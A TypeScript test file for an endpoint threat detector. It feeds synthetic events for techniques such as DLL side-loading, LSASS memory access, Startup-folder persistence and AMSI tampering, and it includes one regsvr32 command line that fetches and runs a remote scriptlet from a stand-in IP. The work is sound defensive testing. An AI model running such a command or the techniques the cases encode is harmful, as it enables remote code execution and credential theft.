import { describe, expect, it } from "vitest";
import {
  connect,
  file,
  INSIDE,
  load,
  OUTSIDE,
  on,
  PUBLIC,
  past,
  S32,
  start,
  thread,
} from "../../../test/support/chains/story.ts";
import { anEvent, testCatalog } from "../../../test/support/events.ts";
import type { History } from "../../baseline/history.ts";
import { effectKeys } from "../../baseline/keys.ts";
import type { Event } from "../../model/event.ts";
import { createDetector } from "../detector.ts";

const STARTUP = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
const ENGINE = "C:\\Windows\\assembly\\GAC_MSIL\\System.Management.Automation\\System.Management.Automation.dll";

function find(events: readonly Event[], minLevel: "low" | "medium" | "informational" = "low", history?: History) {
  const detector = createDetector({ catalog: testCatalog(), minLevel, ...(history && { history }) });
  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
}

const made = (module: string, company: string, image = `${S32}rundll32.exe`) =>
  anEvent("moduleLoad", 0, {
    process: { key: "id:P", pid: 9, image },
    module,
    company,
    signature: { signed: false, status: "Unavailable" },
  });
const looks = (rights: string, name: string, folder = S32) =>
  anEvent("osApiExecution", 0, {
    process: { key: "id:P", pid: 9, image: `${folder}${name}` },
    api: "processAccess",
    access: rights,
    target: { key: "id:L", pid: 700, image: `${S32}lsass.exe` },
  });
const traces = (image: string, api: string) =>
  anEvent("osApiExecution", 0, { platform: "linux", process: { key: "id:P", pid: 9, image }, api, access: "ATTACH" });
const PPL = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL";
const HIVE = "HKU\\S-1-5-21-1-2-3-1001";
const IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\";
const FOLDERS = "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\";
const sets = (path: string, value: string, name = "svchost.exe", folder = S32) =>
  anEvent("registryKeyModification", 0, {
    process: { key: "id:P", pid: 9, image: `${folder}${name}` },
    path,
    value,
    action: "setValue",
  });
const refused = (path: string, image: string) =>
  anEvent("policyDecision", 0, {
    process: { key: undefined, pid: undefined, image: image.replace("C:", "\\Device\\HarddiskVolume3") },
    product: "appcontrol",
    decision: "block",
    path,
  });
const driver = (module: string) => anEvent("moduleLoad", 0, { module, signature: { signed: true, status: "Valid" } });

/** By analytic: an event that tells of it, and the ordinary one beside it. */
const CASES: readonly (readonly [analytic: string, fires: Event, silent: Event])[] = [
  [
    "twin-library",
    load(0, "P", "C:\\Windows \\System32\\a.exe", "C:\\Windows \\System32\\b.dll"),
    load(0, "P", "a.exe", `${S32}b.dll`),
  ],
  [
    "twin-file",
    file(0, "P", `${PUBLIC}a.exe`, "C:\\Windows \\System32\\b.dll"),
    file(0, "P", `${PUBLIC}a.exe`, `${S32}b.dll`),
  ],
  [
    "redirected-library",
    load(0, "P", "a.exe", `${S32}a.exe.local\\x\\b.dll`),
    load(0, "P", "a.exe", `${S32}a.exe.local\\x\\b.dll`, true),
  ],
  [
    "phantom-library",
    load(0, "P", "WerFault.exe", `${S32}wow64log.dll`),
    load(0, "P", "WerFault.exe", `${S32}wow64log.dll`, true),
  ],
  [
    "side-loaded",
    load(0, "P", `${PUBLIC}a.exe`, `${PUBLIC}version.dll`),
    load(0, "P", `${PUBLIC}a.exe`, `${PUBLIC}version.dll`, true),
  ],
  [
    "foreign-library",
    load(0, "P", "SearchFilterHost.exe", "C:\\ProgramData\\x.dll"),
    load(0, "P", "SearchFilterHost.exe", "C:\\Program Files\\V\\x.dll"),
  ],
  [
    "served-page",
    file(0, "P", `${S32}inetsrv\\w3wp.exe`, "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
    file(0, "P", `${S32}inetsrv\\w3wp.exe`, "C:\\inetpub\\wwwroot\\upload\\x.png"),
  ],
  ["foreign-in-system", made(`${S32}orchard.dll`, "Orchard"), made(`${S32}orchard.dll`, "Microsoft Corporation")],
  [
    "refused-library",
    refused("\\Device\\HarddiskVolume3\\Users\\amy\\plover.dll", `${S32}rundll32.exe`),
    refused("\\Device\\HarddiskVolume3\\Program Files\\Plover\\plover.dll", `${S32}lsass.exe`),
  ],
  ["unexpected-engine", load(0, "P", "write.exe", ENGINE, true), load(0, "P", "mmc.exe", ENGINE, true)],
  ["driver", driver(`${PUBLIC}a.sys`), driver(`${S32}drivers\\a.sys`)],
  ["outward-call", connect(0, "P", "cmstp.exe", OUTSIDE), connect(0, "P", "cmstp.exe", INSIDE)],
  ["memory-of-lsass", looks("0x1010", "powershell.exe"), looks("0x1000", "powershell.exe")],
  ["look-into-lsass", looks("0x1410", "powershell.exe"), looks("0x1410", "svchost.exe")],
  [
    "foreign-thread",
    thread(0, "P", "mshta.exe", "T", "explorer.exe"),
    thread(0, "P", "csrss.exe", "T", "explorer.exe"),
  ],
  ["stray-memory-of-lsass", looks("0x1010", "k.exe", PUBLIC), looks("0x1010", "k.exe")],
  ["stray-thread", thread(0, "P", `${PUBLIC}k.exe`, "T", "explorer.exe"), thread(0, "P", "k.exe", "T", "explorer.exe")],
  ["stray-logon-shortcut", file(0, "P", `${PUBLIC}k.exe`, `${STARTUP}a.lnk`), file(0, "P", "k.exe", `${STARTUP}a.lnk`)],
  ["stray-protection", sets(PPL, "0", "k.exe", PUBLIC), sets(PPL, "0", "k.exe")],
  [
    "memory-image",
    file(0, "P", "taskmgr.exe", `${PUBLIC}lsass.DMP`),
    file(0, "P", "taskmgr.exe", `${PUBLIC}notepad.DMP`),
  ],
  ["logon-program", file(0, "P", "mstsc.exe", `${STARTUP}a.exe`), file(0, "P", "msiexec.exe", `${STARTUP}a.exe`)],
  ["logon-shortcut", file(0, "P", "wscript.exe", `${STARTUP}a.lnk`), file(0, "P", "explorer.exe", `${STARTUP}a.lnk`)],
  ["foreign-trace", traces("/usr/bin/python3.11", "ptrace"), traces("/usr/bin/gdb", "ptrace")],
  [
    "directory-extension",
    sets("HKLM\\System\\CurrentControlSet\\Services\\NTDS\\LsaDbExtPt", "D:\\x.dll"),
    sets("HKLM\\System\\CurrentControlSet\\Services\\NTDS\\Start", "x.dll"),
  ],
  [
    "emptied-handler",
    sets(`${HIVE}_Classes\\Folder\\shell\\open\\command\\DelegateExecute`, "(Empty)"),
    sets(`${HIVE}_Classes\\Folder\\shell\\open\\command\\DelegateExecute`, "{11dbb47c}"),
  ],
  [
    "network-helper",
    sets("HKLM\\SOFTWARE\\Microsoft\\NetSh\\x", "x.dll"),
    sets("HKLM\\SOFTWARE\\Microsoft\\NetSh\\x", "x.dll", "msiexec.exe"),
  ],
  [
    "other-class",
    sets(`${HIVE}_Classes\\CLSID\\{1}\\TreatAs\\(Default)`, "{2}"),
    sets("HKLM\\Software\\Classes\\CLSID\\{1}\\TreatAs\\(Default)", "{2}"),
  ],
  [
    "exit-flag",
    sets(`${IFEO}lsass.exe\\GlobalFlag`, "DWORD (0x00000200)"),
    sets(`${IFEO}a.exe\\GlobalFlag`, "DWORD (0x02000000)"),
  ],
  [
    "service-library",
    sets("HKLM\\System\\CurrentControlSet\\Services\\T\\Parameters\\ServiceDll", "%ProgramFiles%\\x\\x.dll"),
    sets("HKLM\\System\\CurrentControlSet\\Services\\T\\Parameters\\ServiceDll", "%SystemRoot%\\System32\\x.dll"),
  ],
  [
    "shared-program",
    file(0, "P", "System", "C:\\Windows\\plover.exe"),
    file(0, "P", "System", "C:\\Windows\\PSEXESVC.exe"),
  ],
  [
    "script-scanner",
    sets("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{0c1d2e3f}\\(Default)", "Kettle", "regsvr32.exe"),
    sets("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{0c1d2e3f}\\(Default)", "Kettle", "msiexec.exe"),
  ],
  [
    "openly-dropped",
    file(0, "P", "powershell.exe", `${PUBLIC}plover.msi`),
    file(0, "P", "powershell.exe", `${PUBLIC}Desktop\\plover.exe`),
  ],
  [
    "startup-moved",
    sets(`${HIVE}\\${FOLDERS}Startup`, "C:\\Test"),
    sets(
      `${HIVE}\\${FOLDERS}Startup`,
      "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
    ),
  ],
  ["file-in-memory", traces("/usr/bin/python3.11", "memfd"), traces("/usr/bin/runc", "memfd")],
];

describe.each(CASES)("an event that tells alone: %s", (analytic, fires, silent) => {
  const behaviour = `${fires.platform}/chains/alone-${analytic}`;
  it("is a finding, and its ordinary twin is none", () => {
    const [finding, ...more] = find([fires]);
    expect(more).toEqual([]);
    expect(finding?.behaviour).toBe(behaviour);
    expect(finding?.title).not.toMatch(/\{|undefined|^ /);
    expect(find([silent], "informational").map((one) => one.behaviour)).not.toContain(behaviour);
  });
});

it("has a case for every analytic that rests on one event, whatever it is", () => {
  const alone = testCatalog().chains.filter((chain) => chain.alone && chain.id.startsWith("alone/"));
  expect(CASES.map(([name]) => `alone/${name}`).toSorted()).toEqual(alone.map(({ id }) => id).toSorted());
});

describe("what the catalogue has an event confirm", () => {
  it.each([
    ["hostile alone", connect(0, "P", "regsvr32.exe", OUTSIDE), "windows/regsvr32/scriptlet", "medium"],
    [
      "a library by name",
      load(0, "P", "regsvr32.exe", `${S32}scrobj.dll`, true),
      "windows/regsvr32/scriptlet",
      "medium",
    ],
    ["not so rare", connect(0, "P", "certutil.exe", OUTSIDE), "windows/certutil/", "low"],
    ["a program that it wrote", file(0, "P", "certutil.exe", `${PUBLIC}a.exe`), "windows/certutil/", "low"],
    ["Linux", on("linux", connect(0, "P", "/usr/bin/gawk", OUTSIDE))[0], "linux/awk/network-shell", "medium"],
  ] as const)("makes a finding: %s", (_, event, behaviour, level) => {
    const [finding] = find(event ? [event] : []);
    expect(finding?.behaviour).toContain(behaviour);
    expect(finding?.level).toBe(level);
  });
  it.each([
    ["an ordinary behaviour has it, too", connect(0, "P", "curl.exe", OUTSIDE)],
    ["the far end is of the site", connect(0, "P", "regsvr32.exe", INSIDE)],
    ["the file is no program", file(0, "P", "certutil.exe", `${PUBLIC}a.txt`)],
    ["the program reaches out for reasons of its own", connect(0, "P", "C:\\Program Files\\nodejs\\node.exe", OUTSIDE)],
    [
      "the program keeps there whatever it shows",
      file(
        0,
        "P",
        "C:\\Program Files\\Microsoft Office\\OUTLOOK.EXE",
        "C:\\Users\\a\\AppData\\Local\\INetCache\\a.htm",
      ),
    ],
  ])("makes none where %s", (_, event) => {
    expect(find([event])).toEqual([]);
  });
  it("names what brings programs before what has other ends", () => {
    const [finding] = find([file(0, "P", "certutil.exe", `${PUBLIC}a.exe`)]);
    expect(finding).toMatchObject({ behaviour: "windows/certutil/download", writes: [{ value: `${PUBLIC}a.exe` }] });
  });
  it("tells of a file by what it means that it is written", () => {
    const [finding] = find([file(0, "P", "curl.exe", `${PUBLIC}svchost.exe`)]);
    expect(finding).toMatchObject({ level: "medium", techniques: ["T1036.005"] });
    expect(find([file(0, "P", "msiexec.exe", `${PUBLIC}svchost.exe`)], "medium")).toEqual([]);
  });
  it("confirms the finding of a start that is logged, and is none of its own", () => {
    const line = "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll";
    const start_ = start(0, "P", "regsvr32.exe", line);
    const findings = find([
      start_,
      load(1, "P", "regsvr32.exe", `${S32}scrobj.dll`, true),
      connect(2, "P", "regsvr32.exe", OUTSIDE),
    ]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.commandLine).toBe(line);
  });
  it("is one finding for all that a process did, that of the gravest", () => {
    const events = [
      connect(0, "P", "certutil.exe", OUTSIDE),
      file(1, "P", "certutil.exe", `${PUBLIC}a.exe`),
      file(2, "P", "certutil.exe", `${STARTUP}a.exe`),
    ];
    const [finding, ...more] = find(events);
    expect(more).toEqual([]);
    expect(finding?.behaviour).toBe("windows/chains/alone-logon-program");
    expect(finding?.related.map(({ role }) => role)).toEqual(["evidence", "evidence"]);
  });
  it("is quieter where a history knows the program to do such things", () => {
    const event = connect(0, "P", "certutil.exe", OUTSIDE);
    const known = past(...effectKeys(event, "windows/certutil"));
    const [plain] = find([event], "informational");
    const [ordinary] = find([event], "informational", known);
    expect(ordinary?.score).toBeLessThan(plain?.score ?? 0);
    expect(ordinary?.evidence.map(({ id }) => id)).toContain("history-effect");
    expect(find([event], "low", known)).toEqual([]);
  });
});

describe("a start that is logged and tells nothing", () => {
  const begun = start(0, "P", "taskhostw.exe", "taskhostw.exe");
  it("is a finding by what it does that is odd whoever does it, and only one", () => {
    const findings = find([
      begun,
      load(1, "P", "taskhostw.exe", `${PUBLIC}a.dll`),
      load(2, "P", "taskhostw.exe", `${PUBLIC}b.dll`),
    ]);
    expect(findings.map(({ behaviour }) => behaviour)).toEqual(["windows/chains/alone-foreign-library"]);
  });
  it("is none by what its line would have told", () => {
    const line = start(0, "P", "certutil.exe", "certutil.exe -store my");
    expect(find([line, connect(1, "P", "certutil.exe", OUTSIDE)])).toEqual([]);
  });
});

it("tells a library beside its program whoever else of that name loaded it before from elsewhere", () => {
  const library = `${PUBLIC}winmm.dll`;
  const findings = find([load(0, "P", "C:\\Tools\\b.exe", library), load(1, "Q", `${PUBLIC}b.exe`, library)]);
  expect(findings.map(({ behaviour }) => behaviour)).toEqual(["windows/chains/alone-side-loaded"]);
});
